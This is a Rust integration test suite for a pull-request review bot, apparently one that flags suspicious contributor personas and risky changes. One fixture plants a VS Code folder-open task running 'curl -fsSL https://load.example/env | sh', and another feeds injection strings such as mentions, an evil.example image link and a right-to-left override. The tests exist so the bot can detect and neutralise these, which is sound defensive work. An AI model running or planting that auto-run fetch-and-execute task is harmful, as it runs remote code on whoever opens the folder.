//! What a review writes on a pull request.

use std::sync::{Arc, Mutex};

use countersign_webhooks::review::{CommentPlan, Plan};
use countersign_world::{Commit, World};

use crate::app::{App, stories};
use crate::people::{ADA, VIC, honest_pull, persona_pull, split, widget};

stories! {
    async fn a_clean_pull_request_is_met_with_silence(database) {
        let app = App::start(&database).await;
        let pull = honest_pull(&widget(&app.world));
        app.deal_with(&pull.opened()).await;
        assert_eq!(pull.comments(), []);
        assert_eq!(pull.checks(), []);
        app.finish().await;
    }

    async fn a_persona_gets_one_neutral_comment_in_public(database) {
        let app = App::start(&database).await;
        let pull = persona_pull(&widget(&app.world));
        app.deal_with(&pull.opened()).await;
        let comments = pull.comments();
        assert_eq!(comments.len(), 1, "{comments:?}");
        let comment = &comments[0];
        assert_eq!(comment.author, "countersign[bot]");
        insta::allow_duplicates! { insta::assert_snapshot!("summary", comment.body); }
        assert!(!comment.body.contains("Victor") && !comment.body.contains("victor"));
        let checks = pull.checks();
        assert_eq!(checks.len(), 1);
        assert_eq!(checks[0].conclusion.as_deref(), Some("neutral"));
        app.finish().await;
    }

    async fn a_private_repository_shows_everything(database) {
        let app = App::start(&database).await;
        let pull = persona_pull(&widget(&app.world).private());
        app.deal_with(&pull.opened()).await;
        let comments = pull.comments();
        assert_eq!(comments.len(), 1);
        let (head, body) = (pull.head(), &comments[0].body);
        assert!(body.contains("split-clock") && body.contains(&head[..7]), "{body}");
        app.finish().await;
    }

    async fn a_task_that_runs_on_opening_the_folder_is_shown(database) {
        let app = App::start(&database).await;
        let tasks = r#"{
  "tasks": [
    {
      "label": "env",
      "command": "curl -fsSL https://load.example/env | sh",
      "runOptions": { "runOn": "folderOpen" }
    }
  ]
}
"#;
        let commit = Commit::new(ADA, "2026-03-02T10:11:12+01:00")
            .file("more", "work")
            .file(".vscode/tasks.json", tasks)
            .file("large.txt", "line\n".repeat(20_001));
        let repository = widget(&app.world).private().push("tasks", &[commit]);
        let pull = repository.open("ada", "tasks", "Add an editor's tasks");
        app.deal_with(&pull.opened()).await;
        let comments = pull.comments();
        assert_eq!(comments.len(), 1, "{comments:?}");
        let body = &comments[0].body;
        assert!(body.contains("auto-run") && body.contains("curl -fsSL"), "{body}");
        assert!(body.contains("1 changed file"), "{body}");
        app.finish().await;
    }

    async fn a_second_review_of_the_same_changes_nothing(database) {
        let app = App::start(&database).await;
        let pull = persona_pull(&widget(&app.world));
        app.deal_with(&pull.opened()).await;
        let before = pull.comments();
        app.deal_with(&pull.event("reopened")).await;
        assert_eq!(pull.comments(), before);
        assert_eq!(pull.checks().len(), 1);
        app.finish().await;
    }

    async fn a_comment_is_resolved_when_its_reason_goes(database) {
        let app = App::start(&database).await;
        let repository = widget(&app.world);
        let pull = persona_pull(&repository);
        app.deal_with(&pull.opened()).await;
        let before = pull.head();
        let commit = Commit::new(ADA, "2026-03-02T10:11:12+01:00").file("gate", "work");
        let _ = repository.clone().force_push("gate", "main", &[commit]);
        app.deal_with(&pull.synchronized(&before)).await;
        let comments = pull.comments();
        assert_eq!(comments.len(), 1);
        assert!(comments[0].body.starts_with("### Nothing left to look at"));
        assert_eq!(comments[0].minimised.as_deref(), Some("RESOLVED"));
        // And speaks again when it comes back.
        let before = pull.head();
        let _ = repository.clone().force_push("gate", "main", &split(VIC, 12));
        app.deal_with(&pull.synchronized(&before)).await;
        let comments = pull.comments();
        assert_eq!(comments.len(), 1);
        assert!(comments[0].body.starts_with("### Maintainers"));
        assert_eq!(comments[0].minimised, None);
        app.finish().await;
    }

    async fn a_fork_is_reviewed_from_the_base_repository(database) {
        let app = App::start(&database).await;
        let repository = widget(&app.world);
        let _ = repository.fork("victor").push("gate", &split(VIC, 12));
        let pull = repository.open("victor", "victor:gate", "Add a gate");
        app.deal_with(&pull.opened()).await;
        assert_eq!(pull.comments().len(), 1);
        app.finish().await;
    }

    async fn a_deleted_account_is_reviewed_by_its_commits(database) {
        let app = App::start(&database).await;
        let pull = persona_pull(&widget(&app.world));
        let opened = pull.opened();
        let _ = app.world.user("victor").deleted();
        app.deal_with(&opened).await;
        assert_eq!(pull.comments().len(), 1);
        app.finish().await;
    }

    async fn a_comment_that_was_deleted_stays_deleted(database) {
        let app = App::start(&database).await;
        let repository = widget(&app.world);
        let pull = persona_pull(&repository);
        app.deal_with(&pull.opened()).await;
        pull.delete_comment(pull.comments()[0].id);
        let before = pull.head();
        let _ = repository.clone().push("gate", &[split(VIC, 14).remove(13)]);
        app.deal_with(&pull.synchronized(&before)).await;
        assert_eq!(pull.comments(), []);
        app.finish().await;
    }

    async fn a_comment_that_a_person_edited_is_left_alone(database) {
        let app = App::start(&database).await;
        let repository = widget(&app.world);
        let pull = persona_pull(&repository);
        app.deal_with(&pull.opened()).await;
        pull.edit_comment("mira", pull.comments()[0].id, "We know about this.");
        let edited = pull.comments();
        let before = pull.head();
        let commit = Commit::new(ADA, "2026-03-02T10:11:12+01:00").file("gate", "work");
        let _ = repository.clone().force_push("gate", "main", &[commit]);
        app.deal_with(&pull.synchronized(&before)).await;
        assert_eq!(pull.comments(), edited);
        app.finish().await;
    }

    async fn what_contributors_write_stays_text(database) {
        let app = App::start(&database).await;
        let who = "@acme/owners ![x](https://evil.example/a.png) | \u{202e}eman `a` &lt;img&gt; #1 <victor@gate.example>";
        let repository = widget(&app.world).private().push("gate", &split(who, 12));
        let pull = repository.open("victor", "gate", "@acme/owners <!-- countersign:review:1 -->");
        app.deal_with(&pull.opened()).await;
        let comments = pull.comments();
        assert_eq!(comments.len(), 1);
        // What stands in code mentions nobody and renders as it is.
        let body: String = comments[0].body.split('`').step_by(2).collect();
        for hostile in ["@acme/owners", "![x]", "\u{202e}", "&lt;img"] {
            assert!(!body.contains(hostile), "{hostile}: {body}");
        }
        app.finish().await;
    }

    async fn a_review_asks_little_of_github(database) {
        let app = App::start(&database).await;
        let repository = widget(&app.world);
        let (clean, persona) = (honest_pull(&repository), persona_pull(&repository));
        app.deal_with(&clean.opened()).await;
        insta::allow_duplicates! { insta::assert_debug_snapshot!("requests_clean", app.world.requests()); }
        app.world.forget_requests();
        app.deal_with(&persona.opened()).await;
        insta::allow_duplicates! { insta::assert_debug_snapshot!("requests_persona", app.world.requests()); }
        app.finish().await;
    }

    async fn an_enterprise_server_is_no_different(database) {
        let world = World::start_enterprise().await;
        let app = App::start_at(world, &database, |_| {}).await;
        let pull = persona_pull(&widget(&app.world));
        app.deal_with(&pull.opened()).await;
        assert_eq!((pull.comments().len(), pull.checks().len()), (1, 1));
        app.finish().await;
    }

    async fn a_dry_run_writes_nothing(database) {
        let plans = Arc::new(Mutex::new(Vec::new()));
        let seen = Arc::clone(&plans);
        let app = App::start_at(World::start().await, &database, |settings| {
            settings.dry_run = Some(Arc::new(move |repository: &str, number, plan: &Plan| {
                let plan = (repository.to_owned(), number, plan.clone());
                seen.lock().unwrap().push(plan);
            }));
        })
        .await;
        let pull = persona_pull(&widget(&app.world));
        app.deal_with(&pull.opened()).await;
        let said = pull.comment("mira", "/countersign explain");
        app.deal_with(&pull.comment_event("created", "mira", said)).await;
        assert_eq!((pull.comments().len(), pull.checks()), (1, vec![]));
        assert_eq!(pull.comments()[0].reactions, [""; 0]);
        let plans = std::mem::take(&mut *plans.lock().unwrap());
        assert_eq!(plans.len(), 1);
        assert!(matches!(plans[0].2.comment, CommentPlan::Create { .. }));
        assert_eq!((plans[0].0.as_str(), plans[0].1.get()), ("acme/widget", 1));
        app.finish().await;
    }
}
